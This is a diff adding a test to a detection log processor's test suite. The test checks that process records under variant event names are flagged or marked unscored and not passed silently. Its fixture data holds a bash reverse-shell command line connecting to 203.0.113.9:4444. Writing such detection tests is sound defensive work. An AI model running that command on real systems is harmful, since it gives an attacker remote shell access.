@@ -108,6 +108,20 @@ def test_non_process_records_pass_through_unscored_and_counted(processor) -> Non
     assert kinds.value(kind="unrecognised") == 1 and kinds.value(kind="agent") == 1
 
 
+def test_a_process_record_under_another_event_name_is_scored_or_marked_never_silent(processor) -> None:  # type: ignore[no-untyped-def]
+    """`EXEC` is process.exec spelled otherwise; `process.exit` on a reverse shell's attributes is not scored,
+    and says so, where it passed as a plain log before; the agent's own CPU samples pass as before."""
+    shell = process_exec("bash", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", 7, 1, path="/bin/bash")
+    batch = exec_batch([shell, shell, shell])
+    records = batch.logs.resource_logs[0].scope_logs[0].log_records
+    records[0].event_name, records[1].event_name, records[2].event_name = "EXEC", "process.exit", "process.cpu"
+    processor.process(batch)
+    assert attributes(records[0])["anomaly_severity"] == "alert"
+    assert attributes(records[1])["anomaly_severity"] == "unscored"
+    assert "anomaly_severity" not in attributes(records[2])  # an agent's CPU sample of a process already scored
+    assert processor._unscored.value(reason="does_not_score") == 1
+
+
 def test_senders_cannot_forge_a_verdict(processor) -> None:  # type: ignore[no-untyped-def]
     batch = exec_batch([process_exec("ls", "ls -l", 5, 1)])
     forged = batch.logs.resource_logs[0].scope_logs[0].log_records.add()
